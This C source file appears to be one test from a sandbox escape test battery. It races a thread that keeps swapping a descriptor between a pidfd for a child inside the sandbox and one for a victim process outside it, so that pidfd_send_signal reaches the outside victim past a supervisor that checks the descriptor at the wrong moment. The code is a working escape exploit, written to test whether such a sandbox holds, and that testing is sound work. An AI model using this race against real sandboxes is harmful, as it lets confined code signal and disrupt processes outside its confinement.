/* SPDX-License-Identifier: ISC */
/*
 * Blind round 12: the pidfd judged is not the pidfd used.  One thread
 * flips descriptor N between a pidfd of a child of the tree (which
 * ignores SIGSEGV) and a pidfd of the victim outside (battery.sh's
 * escape_victim); the other calls pidfd_send_signal(N, SIGSEGV) again and
 * again.  A supervisor that judges N at the call's stop and lets the
 * kernel look at N again later signals the victim, which makes MARK.
 * usage: escape_pidfdswap MARK INFO.  Exit 0 MARK made, 3 not.
 */
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static int n, tree, outside;
static atomic_int stop;

static void *
flip(void *arg)
{
	(void)arg;
	while (!stop) {
		dup2(tree, n);
		dup2(outside, n);
	}
	return NULL;
}

int
main(int argc, char **argv)
{
	struct stat st;
	pthread_t t;
	pid_t victim = 0, child;
	FILE *f;

	if (argc != 3 || (f = fopen(argv[2], "r")) == NULL)
		return 2;
	if (fscanf(f, "%d", &victim) != 1)
		return 2;
	fclose(f);
	if ((outside = (int)syscall(SYS_pidfd_open, victim, 0)) == -1)
		return 3;
	if ((child = fork()) == 0) {
		signal(SIGSEGV, SIG_IGN);
		for (;;)
			pause();
	}
	usleep(50000);
	if ((tree = (int)syscall(SYS_pidfd_open, child, 0)) == -1 ||
	    (n = dup(tree)) == -1 || pthread_create(&t, NULL, flip, NULL))
		return 3;
	for (int i = 0; i < 5000 && stat(argv[1], &st) == -1; i++) {
		syscall(SYS_pidfd_send_signal, n, SIGSEGV, NULL, 0);
		if (i % 500 == 499)
			usleep(20000);	/* the victim polls its flag */
	}
	stop = 1;
	pthread_join(t, NULL);
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	usleep(300000);
	return stat(argv[1], &st) == 0 ? 0 : 3;
}
